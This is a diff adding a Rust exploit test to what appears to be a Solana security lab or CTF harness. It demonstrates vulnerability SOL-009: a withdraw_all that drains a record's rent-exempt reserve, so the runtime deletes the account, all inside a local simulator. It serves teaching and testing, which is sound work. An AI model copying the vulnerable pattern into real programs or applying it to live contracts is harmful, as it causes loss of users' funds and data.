@@ -0,0 +1,93 @@
+//! withdraw_all takes the rent-exempt reserve with it, and the runtime
+//! deletes the user's record
+
+use anyhow::{ensure, Result as AnyResult};
+use lab_instructions::rent_exemption::{initialize_ix, withdraw_all_ix};
+use lab_svm::{Svm, LAMPORTS_PER_SOL};
+use solana_program::entrypoint::ProcessInstruction;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::{fixtures, victim, vulnerability, Harness, Version};
+
+/// the victim's own withdraw_all leaves their record at 0 lamports and it is
+/// purged
+#[vulnerability(
+    id = "SOL-009",
+    category = "RentExemption",
+    severity = "Medium",
+    difficulty = "Intermediate",
+    rejection = "the record survived the withdrawal",
+    prerequisite = "missing_owner_check",
+    prerequisite = "arithmetic_errors",
+    honest_use = honest_use,
+    reference(
+        title = "Solana docs: accounts and rent",
+        url = "https://solana.com/docs/core/accounts",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(harness, rent_exemption::process_instruction),
+        Version::Secure => attack(harness, rent_exemption_secure::process_instruction),
+    }
+}
+
+/// UserData: owner, balance, metadata
+const USER_DATA_LEN: usize = 32 + 8 + 32;
+
+fn attack(svm: &mut Svm, program: ProcessInstruction) -> AnyResult<()> {
+    let program_id = deploy(svm, "rent_exemption", program);
+    let victim_key = fund(svm, &victim());
+    let record = program_account(
+        svm,
+        fixtures::address("rent_exemption/record"),
+        &program_id,
+        vec![0; USER_DATA_LEN],
+        LAMPORTS_PER_SOL,
+    );
+
+    svm.send(
+        &[initialize_ix(program_id, record, victim_key)],
+        &[&victim()],
+    )?;
+    let flag = ctf::plant(svm, program_id, Goal::Close { account: record })?;
+
+    // Honest use: the victim withdraws what they deposited
+    svm.send(
+        &[withdraw_all_ix(program_id, record, victim_key, victim_key)],
+        &[&victim()],
+    )?;
+
+    ensure!(
+        svm.get_account(&record).is_none(),
+        "the record survived the withdrawal"
+    );
+    ctf::capture(svm, &flag)
+}
+
+/// The victim sets up their record and withdraws what they deposited
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let program = match harness.version() {
+        Version::Vulnerable => rent_exemption::process_instruction,
+        Version::Secure => rent_exemption_secure::process_instruction,
+    };
+    let program_id = deploy(harness, "rent_exemption", program);
+    let victim_key = fund(harness, &victim());
+    let record = program_account(
+        harness,
+        fixtures::address("rent_exemption/record"),
+        &program_id,
+        vec![0; USER_DATA_LEN],
+        LAMPORTS_PER_SOL,
+    );
+
+    harness.send(
+        &[
+            initialize_ix(program_id, record, victim_key),
+            withdraw_all_ix(program_id, record, victim_key, victim_key),
+        ],
+        &[&victim()],
+    )?;
+    Ok(())
+}